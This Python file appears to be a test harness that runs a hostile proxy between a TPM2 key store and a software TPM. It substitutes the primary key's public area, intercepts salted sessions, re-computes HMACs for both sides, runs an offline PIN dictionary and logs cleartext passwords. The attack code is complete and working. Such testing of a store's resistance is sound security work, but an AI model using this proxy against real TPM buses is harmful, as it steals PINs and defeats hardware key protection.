# SPDX-License-Identifier: MIT
"""A hostile TPM bus for tpm2-mitm.sh: a proxy between the tpm2 store (swtpm TCTI) and a
swtpm's socket that attacks the store's sessions. Modes:

  relay     pass everything on, and try the dictionary against every command HMAC it sees
            (it cannot: the session's salt is encrypted to the TPM's primary key);
  template  answer CreatePrimary with the primary's public area altered (one attribute), its
            name recomputed so that ESAPI's consistency check passes;
  point     answer CreatePrimary with the template's public area around the attacker's own
            P-256 point (name recomputed). If the store then salts a session with it, the
            proxy decrypts the salt, salts the TPM's side itself, and sits in the middle:
            it re-computes every HMAC for each side, runs the dictionary against the HMACs
            keyed with a key's auth value (offline, no TPM try spent) and, once it has the
            PIN, lets the command through so that the store notices nothing.

Every password (TPM_RS_PW) auth area carrying a non-empty value is logged as "password in
clear". Events go to LOG, one per line: "command NAME", "substituted primary", "salt
recovered", "pin recovered: PIN", "password in clear: HEX".

Usage: tpm2-mitm.py MODE LISTEN-SOCKET SWTPM-SOCKET LOG DICTIONARY-FILE SECONDS
Needs python3-cryptography (ECDH on P-256); the rest is the standard library.
"""
import hashlib
import hmac
import os
import socket
import struct
import sys
import threading
import time

from cryptography.hazmat.primitives.asymmetric import ec

TPM_RS_PW = 0x40000009
ST_SESSIONS = 0x8002
SHA256 = 0x000B
# command code: (name, handles in the command, handles in the response)
COMMANDS = {
    0x131: ("CreatePrimary", 1, 1),
    0x144: ("Startup", 0, 0),
    0x153: ("Create", 1, 0),
    0x154: ("ECDH_ZGen", 1, 0),
    0x157: ("Load", 1, 1),
    0x15D: ("Sign", 1, 0),
    0x165: ("FlushContext", 0, 0),
    0x176: ("StartAuthSession", 2, 1),
    0x17A: ("GetCapability", 0, 0),
    0x17B: ("GetRandom", 0, 0),
}

MODE, LISTEN, UPSTREAM, LOG, DICT, SECONDS = sys.argv[1:7]
# The empty auth value first: what a key without a PIN has.
PINS = [b""] + [line.rstrip("\n").encode() for line in open(DICT) if line.strip()]
log_lock = threading.Lock()


def event(text):
    with log_lock, open(LOG, "a") as f:
        f.write(text + "\n")


class Reader:
    """A bounded reader over one TPM message."""

    def __init__(self, data, pos=0):
        self.data, self.pos = data, pos

    def take(self, n):
        if self.pos + n > len(self.data):
            raise ValueError("truncated TPM message")
        out = self.data[self.pos:self.pos + n]
        self.pos += n
        return out

    def u8(self):
        return self.take(1)[0]

    def u16(self):
        return struct.unpack(">H", self.take(2))[0]

    def u32(self):
        return struct.unpack(">I", self.take(4))[0]

    def tpm2b(self):
        return self.take(self.u16())


def tpm2b(b):
    return struct.pack(">H", len(b)) + b


def kdfa(key, label, u, v, bits):
    out, i = b"", 1
    while len(out) * 8 < bits:
        out += hmac.new(key, struct.pack(">I", i) + label + b"\0" + u + v +
                        struct.pack(">I", bits), hashlib.sha256).digest()
        i += 1
    return out[:bits // 8]


def kdfe(z, label, u, v):
    return hashlib.sha256(struct.pack(">I", 1) + z + label + b"\0" + u + v).digest()


def point_key(x, y):
    return ec.EllipticCurvePublicKey.from_encoded_point(ec.SECP256R1(), b"\x04" + x + y)


def xy(public):
    raw = public.public_numbers()
    return raw.x.to_bytes(32, "big"), raw.y.to_bytes(32, "big")


def unique_offset(area):
    """Offset of unique (x TPM2B, y TPM2B) in an ECC TPMT_PUBLIC."""
    r = Reader(area)
    if r.u16() != 0x0023:
        raise ValueError("not an ECC key")
    r.take(2 + 4)  # nameAlg, objectAttributes
    r.tpm2b()  # authPolicy
    if r.u16() != 0x0010:  # symmetric: keyBits, mode
        r.take(4)
    if r.u16() != 0x0010:  # scheme: its hash
        r.take(2)
    r.take(2)  # curveID
    if r.u16() != 0x0010:  # kdf: its hash
        r.take(2)
    return r.pos


def name_of(area):
    return struct.pack(">H", SHA256) + hashlib.sha256(area).digest()


class Session:
    """A session salted to the attacker: its key on the store's side and on the TPM's."""

    def __init__(self, store_key, tpm_key):
        self.store_key, self.tpm_key = store_key, tpm_key


class Bus:
    """What the attacker knows: one for the proxy's life, since the swtpm TCTI may open a
    connection per command."""

    def __init__(self):
        self.lock = threading.Lock()  # one command and its answer at a time
        self.attacker = ec.generate_private_key(ec.SECP256R1())
        self.primary = None  # its handle, when substituted
        self.real_point = self.fake_point = None
        self.names = {}  # handle -> (name the store knows, name the TPM knows)
        self.auth = {}  # handle -> auth value, once known (primary: empty)
        self.sessions = {}  # handle -> Session, for sessions salted to the attacker
        self.nonces = {}  # session handle -> the TPM's last nonce
        self.pending = None

    # ---- commands -----------------------------------------------------------------------
    def command(self, msg):
        tag, size, cc = struct.unpack(">HII", msg[:10])
        name, nh, _ = COMMANDS.get(cc, ("0x%x" % cc, 0, 0))
        event("command " + name)
        r = Reader(msg, 10)
        handles = [r.u32() for _ in range(nh)]
        self.pending = (cc, handles, None)
        if cc == 0x176 and MODE == "point":
            return self.start_session(msg, r, handles)
        if tag != ST_SESSIONS:
            return msg
        auth_size = r.u32()
        auth_start = r.pos
        sh = r.u32()
        nonce_caller = r.tpm2b()
        attrs = r.u8()
        mac = r.tpm2b()
        params = msg[auth_start + auth_size:]
        if sh == TPM_RS_PW:
            if mac:
                event("password in clear: " + mac.hex())
            return msg
        self.pending = (cc, handles, (sh, nonce_caller, attrs))
        nonce_tpm = self.nonces.get(sh, b"")
        s = self.sessions.get(sh)
        if s is None:
            # The session key is unknown without the salt: try the dictionary anyway with
            # an empty one, what an unsalted session bound to nothing would have.
            self.dictionary(b"", cc, handles, params, nonce_caller, nonce_tpm, attrs, mac)
            return msg
        entity = handles[0]
        auth = self.auth.get(entity)
        if auth is None:
            auth = self.dictionary(s.store_key, cc, handles, params, nonce_caller, nonce_tpm,
                                   attrs, mac)
            if auth is None:
                return msg
            self.auth[entity] = auth
        else:
            want = hmac.new(s.store_key + auth, self.cp_hash(cc, handles, params, 0) +
                            nonce_caller + nonce_tpm + bytes([attrs]), hashlib.sha256).digest()
            if want != mac:
                event("error: the store's HMAC does not verify with the recovered salt")
        tpm_mac = hmac.new(s.tpm_key + auth, self.cp_hash(cc, handles, params, 1) +
                           nonce_caller + nonce_tpm + bytes([attrs]), hashlib.sha256).digest()
        area = struct.pack(">I", sh) + tpm2b(nonce_caller) + bytes([attrs]) + tpm2b(tpm_mac)
        out = msg[:auth_start - 4] + struct.pack(">I", len(area)) + area + params
        return out[:2] + struct.pack(">I", len(out)) + out[6:]

    def cp_hash(self, cc, handles, params, side):
        names = b"".join(self.names.get(h, (struct.pack(">I", h),) * 2)[side] for h in handles)
        return hashlib.sha256(struct.pack(">I", cc) + names + params).digest()

    def dictionary(self, key, cc, handles, params, nonce_caller, nonce_tpm, attrs, mac):
        cp = self.cp_hash(cc, handles, params, 0)
        for pin in PINS:
            data = cp + nonce_caller + nonce_tpm + bytes([attrs])
            if hmac.compare_digest(hmac.new(key + pin, data, hashlib.sha256).digest(), mac):
                if pin:
                    event("pin recovered: " + pin.decode())
                return pin
        return None

    def start_session(self, msg, r, handles):
        tpm_key = handles[0]
        nonce_caller = r.tpm2b()
        salt_at = r.pos
        secret = Reader(r.tpm2b())
        eph = point_key(secret.tpm2b(), secret.tpm2b())
        if tpm_key != self.primary or self.fake_point is None:
            return msg
        # The store encrypted its salt to our point: decrypt it, and salt the TPM's side
        # ourselves, to the real primary.
        z = self.attacker.exchange(ec.ECDH(), eph)
        store_salt = kdfe(z, b"SECRET", xy(eph)[0], self.fake_point[0])
        mine = ec.generate_private_key(ec.SECP256R1())
        z2 = mine.exchange(ec.ECDH(), point_key(*self.real_point))
        mx, my = xy(mine.public_key())
        tpm_salt = kdfe(z2, b"SECRET", mx, self.real_point[0])
        event("salt recovered")
        self.pending = (0x176, handles, (nonce_caller, store_salt, tpm_salt))
        out = msg[:salt_at] + tpm2b(tpm2b(mx) + tpm2b(my)) + msg[r.pos:]
        return out[:2] + struct.pack(">I", len(out)) + out[6:]

    # ---- responses ----------------------------------------------------------------------
    def response(self, msg):
        tag, size, rc = struct.unpack(">HII", msg[:10])
        if self.pending is None or rc != 0:
            return msg
        cc, handles, extra = self.pending
        _, _, nh = COMMANDS.get(cc, ("", 0, 0))
        r = Reader(msg, 10)
        out_handles = [r.u32() for _ in range(nh)]
        if cc == 0x176:
            nonce_tpm = r.tpm2b()
            self.nonces[out_handles[0]] = nonce_tpm
            if extra is not None:
                caller, store_salt, tpm_salt = extra
                self.sessions[out_handles[0]] = Session(
                    kdfa(store_salt, b"ATH", nonce_tpm, caller, 256),
                    kdfa(tpm_salt, b"ATH", nonce_tpm, caller, 256))
            return msg
        if tag != ST_SESSIONS:
            return msg
        psize = r.u32()
        params_at = r.pos
        params = r.take(psize)
        if cc == 0x131 and MODE in ("template", "point"):
            return self.substitute(msg, out_handles[0], params_at, params)
        if cc == 0x157:
            # A new object at a handle that may have held another one.
            name = Reader(params).tpm2b()
            self.names[out_handles[0]] = (name, name)
            self.auth.pop(out_handles[0], None)
        if extra is None:
            return msg
        sh, nonce_caller, _ = extra
        nonce_tpm = r.tpm2b()
        attrs = r.u8()
        self.nonces[sh] = nonce_tpm
        s = self.sessions.get(sh)
        auth = self.auth.get(handles[0]) if handles else b""
        if s is None or auth is None:
            return msg
        rp = hashlib.sha256(struct.pack(">II", 0, cc) + params).digest()
        mac = hmac.new(s.store_key + auth, rp + nonce_tpm + nonce_caller + bytes([attrs]),
                       hashlib.sha256).digest()
        return msg[:r.pos] + tpm2b(mac)

    def substitute(self, msg, handle, params_at, params):
        r = Reader(params)
        area = r.tpm2b()
        rest = params[r.pos:]
        at = unique_offset(area)
        u = Reader(area, at)
        real = (u.tpm2b(), u.tpm2b())
        if MODE == "template":
            attrs = struct.unpack(">I", area[4:8])[0] ^ 0x00000400  # noDA
            fake = area[:4] + struct.pack(">I", attrs) + area[8:]
        else:
            fx, fy = xy(self.attacker.public_key())
            fake = area[:at] + tpm2b(fx) + tpm2b(fy)
            self.fake_point, self.real_point = (fx, fy), real
        self.primary = handle
        self.names[handle] = (name_of(fake), name_of(area))
        self.auth[handle] = b""
        # creationData, creationHash, creationTicket, then the name: the last TPM2B.
        old_name = name_of(area)
        if not rest.endswith(tpm2b(old_name)):
            raise ValueError("CreatePrimary's answer does not end with the name")
        new_params = tpm2b(fake) + rest[:-len(tpm2b(old_name))] + tpm2b(name_of(fake))
        out = (msg[:params_at - 4] + struct.pack(">I", len(new_params)) + new_params +
               msg[params_at + len(params):])
        event("substituted primary")
        return out[:2] + struct.pack(">I", len(out)) + out[6:]


def recv_message(sock):
    head = b""
    while len(head) < 10:
        chunk = sock.recv(10 - len(head))
        if not chunk:
            return None
        head += chunk
    size = struct.unpack(">I", head[2:6])[0]
    if size < 10 or size > 65536:
        raise ValueError("bad TPM message size")
    body = b""
    while len(head) + len(body) < size:
        chunk = sock.recv(size - len(head) - len(body))
        if not chunk:
            return None
        body += chunk
    return head + body


def serve(bus, client):
    upstream = socket.socket(socket.AF_UNIX)
    upstream.connect(UPSTREAM)
    try:
        while True:
            msg = recv_message(client)
            if msg is None:
                break
            with bus.lock:
                upstream.sendall(bus.command(msg))
                rsp = recv_message(upstream)
                if rsp is None:
                    break
                rsp = bus.response(rsp)
            client.sendall(rsp)
    except Exception as e:  # a broken exchange ends this connection only
        event("error: %s" % e)
    finally:
        client.close()
        upstream.close()


def main():
    try:
        os.unlink(LISTEN)
    except FileNotFoundError:
        pass
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(LISTEN)
    listener.listen(8)
    listener.settimeout(0.5)
    bus = Bus()
    end = time.monotonic() + float(SECONDS)
    while time.monotonic() < end:
        try:
            client, _ = listener.accept()
        except socket.timeout:
            continue
        threading.Thread(target=serve, args=(bus, client), daemon=True).start()
    listener.close()


main()
